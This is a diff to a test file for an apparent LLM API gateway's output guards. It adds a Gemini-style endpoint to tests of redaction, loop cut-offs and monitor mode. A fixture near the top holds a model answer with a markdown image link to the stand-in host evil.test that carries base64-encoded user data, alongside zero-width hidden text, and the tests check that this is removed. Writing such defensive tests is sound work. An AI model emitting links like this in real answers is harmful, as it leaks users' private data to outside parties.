@@ -12,7 +12,12 @@ const endpoints = [
 	["/v1/completions", { model, prompt: "Hello" }],
 	["/v1/responses", { model, input: "Hello" }],
 	["/v1/messages", { model, messages, max_tokens: 5000 }],
+	[`/v1beta/models/${model}:generateContent`, { contents: [{ parts: [{ text: "Hello" }] }] }],
 ] as const;
+
+function streamOf(path: string): string {
+	return path.replace(":generateContent", ":streamGenerateContent?alt=sse");
+}
 
 const data = Buffer.from("the user is called Jane Roe").toString("base64url");
 const dirty = `So![x](https://evil.test/?d=${data}) it\u200b\u200c\u200b\u200c is.`;
@@ -47,14 +52,19 @@ function pieceOf(part: Readonly<Record<string, unknown>>): string {
 	const { type, delta } = part as { type?: string; delta?: unknown };
 	if (type === "response.output_text.delta") return String(delta);
 	if (type === "content_block_delta") return (delta as { text?: string }).text ?? "";
-	const { choices, content, output } = part as {
+	const { choices, content, output, candidates } = part as {
+		candidates?: { content?: { parts: { text?: string }[] } }[];
 		choices?: { text?: string; delta?: { content?: string }; message?: { content: string } }[];
 		content?: { text?: string }[];
 		output?: { content?: { text?: string }[] }[];
 	};
 	if (type?.startsWith("response.") === true) return "";
 	const [choice] = choices ?? [];
-	const blocks = content ?? output?.flatMap((item) => item.content ?? []) ?? [];
+	const blocks =
+		content ??
+		candidates?.[0]?.content?.parts ??
+		output?.flatMap((item) => item.content ?? []) ??
+		[];
 	return (
 		choice?.text ??
 		choice?.delta?.content ??
@@ -64,13 +74,16 @@ function pieceOf(part: Readonly<Record<string, unknown>>): string {
 }
 
 describe.each(endpoints)("answers of %s", (path, body) => {
-	const post = postTo(gateway, path);
+	const ask = (stream: boolean): Promise<Response> =>
+		path.startsWith("/v1beta/")
+			? postTo(gateway, stream ? streamOf(path) : path)(body)
+			: postTo(gateway, path)({ ...body, stream });
 
 	test.each([false, true])(
 		"lose addresses that carry data, and hidden text (stream: %s)",
 		async (stream) => {
 			answering(dirty, stream);
-			const response = await post({ ...body, stream });
+			const response = await ask(stream);
 			expect(textIn(await response.text(), stream)).toBe(clean);
 			expect(last()).toMatchObject({ outcome: "answered", action: "redact" });
 			expect(new Set(last().findings.map(({ guard }) => guard))).toEqual(
@@ -81,7 +94,7 @@ describe.each(endpoints)("answers of %s", (path, body) => {
 
 	test("in a loop keep their beginning as JSON", async () => {
 		answering(`Well. ${"I will try again to answer that. ".repeat(400)}`, false);
-		const response = await post(body);
+		const response = await ask(false);
 		const text = textIn(await response.text(), false);
 		expect([response.status, text.startsWith("Well. I will try"), text.length < 1500]).toEqual([
 			200,
@@ -93,10 +106,10 @@ describe.each(endpoints)("answers of %s", (path, body) => {
 
 	test("in a loop end early as a stream, in a way that SDKs understand", async () => {
 		answering("I will try again to answer that. ".repeat(1000), true);
-		const text = await (await post({ ...body, stream: true })).text();
+		const text = await (await ask(true)).text();
 		expect(textIn(text, true).length).toBeLessThan(9000);
 		expect(text).toMatch(
-			/"finish_reason":"content_filter"|"reason":"content_filter"|"stop_reason":"refusal"/,
+			/"finish_reason":"content_filter"|"reason":"content_filter"|"stop_reason":"refusal"|"finishReason":"SAFETY"/,
 		);
 		expect(last()).toMatchObject({ outcome: "refused", action: "block" });
 	});
@@ -106,7 +119,7 @@ describe.each(endpoints)("answers of %s", (path, body) => {
 			settings: { guards: { exfiltration: { mode: "monitor" }, "hidden-text": { mode: "off" } } },
 		});
 		answering(dirty, true);
-		const response = await post({ ...body, stream: true });
+		const response = await ask(true);
 		expect(textIn(await response.text(), true)).toBe(dirty);
 		expect(last().findings).toMatchObject([
 			{ guard: "exfiltration", action: "flag", wouldBe: "redact" },
